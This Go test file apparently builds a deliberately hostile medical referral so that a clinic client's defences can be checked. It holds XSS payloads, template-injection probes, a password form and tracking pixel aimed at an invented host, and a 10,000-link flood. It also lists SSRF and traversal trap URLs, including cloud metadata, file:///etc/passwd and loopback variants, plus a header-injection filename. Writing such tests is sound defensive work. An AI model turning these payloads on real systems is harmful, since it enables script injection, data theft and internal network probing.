package oceantest

import (
	"fmt"
	"strings"
)

// hostileLinks is how many documents the hostile referral names.
const hostileLinks = 10_000

const script = `<script>document.title='script ran'</script><img src=x onerror="document.title='script ran'">`

// hostile returns a referral that tries to run scripts, to have the token sent to strangers, and to
// drown the clinic in links. All its hosts are invented, or this machine. The caller holds the lock.
func (o *Ocean) hostile() Message {
	m := o.invent()
	m.Patient.Family = `Hostile"><b>` + script
	m.Destination = `Example {{7*7}} ${7*7} ` + script
	m.Reason = "Reason " + script
	m.NoteHTML = "<b>Kept bold</b>" + script + `<a href="javascript:document.title='script ran'">link</a>` +
		`<iframe src="` + o.opts.Elsewhere + `"></iframe><form action="` + o.opts.Elsewhere + `"><input name=password></form>` +
		`<style>body{display:none}</style><img src="` + o.opts.Elsewhere + `/pixel.png"><svg onload="document.title='script ran'">`
	m.Questions = [][2]string{{"Question " + script, "Answer " + script}}
	m.Communications = []Communication{{Text: "Message " + script, Sent: m.SentAt}}
	m.Documents = o.traps(m.Ref)
	for i := len(m.Documents); i < hostileLinks; i++ {
		m.Documents = append(m.Documents, Document{Title: fmt.Sprintf("Flood %d.pdf", i),
			URL: fmt.Sprintf("https://h%d.elsewhere.invalid/svc/fhir/v1/DocumentReference/%d/$binary", i%500, i)})
	}
	return m
}

// traps returns the documents that are hostile one by one, most of all those on the simulator's own
// host, which a clinic does fetch.
func (o *Ocean) traps(ref string) []Document {
	all := []Document{{}}
	for i, c := range []Content{FakePDF, Empty, Huge, Elsewhere, Stalled} {
		all = append(all, o.document(ref, 1+i, c, "Trap "+string(c)+".pdf", "application/pdf"))
	}
	scheme, host, _ := strings.Cut(o.opts.Self, "://")
	const path = "/svc/fhir/v1/DocumentReference/trap/$binary"
	for _, url := range []string{
		o.opts.Elsewhere + path,
		"http://127.0.0.1:9" + path, "http://localhost:22" + path, "http://[::1]:9" + path, "http://0x7f000001" + path,
		scheme + "://" + host + "@elsewhere.invalid" + path,
		scheme + "://" + host + ".elsewhere.invalid" + path,
		"//elsewhere.invalid" + path, `\\elsewhere.invalid\share`,
		o.opts.Self + "/svc/fhir/v1/../../../act/burst", o.opts.Self + "/svc/fhir/v1/DocumentReference/%2e%2e%2f%2e%2e/$binary",
		"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "ftp://elsewhere.invalid/x",
		"javascript:document.title='script ran'", "data:text/html," + script,
	} {
		all = append(all, Document{Title: "Trap " + script + ".pdf", URL: url})
	}
	return append(all, Document{Title: "../../trap\r\nSet-Cookie: x=y.pdf", ContentType: "text/html",
		Data: "PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nc2NyaXB0IHJhbic8L3NjcmlwdD4="})
}
